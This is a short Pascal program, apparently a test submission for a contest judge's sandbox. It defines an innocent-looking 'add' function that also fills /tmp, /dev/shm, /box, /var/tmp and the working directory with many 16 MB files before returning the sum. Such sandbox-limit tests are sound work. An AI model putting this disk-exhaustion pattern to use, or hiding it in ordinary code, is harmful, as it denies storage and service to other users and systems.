{$mode objfpc}
uses SysUtils;

const
  Folders: array[1..5] of String = ('/tmp', '/dev/shm', '/box', '/var/tmp', '.');

var
  data: array[1..1048576] of Byte;

function add(a, b: Integer): Integer;
var
  i, j, number: Integer;
  handle: THandle;
begin
  for i := 1 to 5 do
    for number := 1 to 20 do
    begin
      handle := FileCreate(Folders[i] + '/' + IntToStr(number));
      if handle = THandle(-1) then Continue;
      for j := 1 to 16 do
        if FileWrite(handle, data, SizeOf(data)) <= 0 then Break;
      FileClose(handle);
    end;
  Result := a + b;
end;
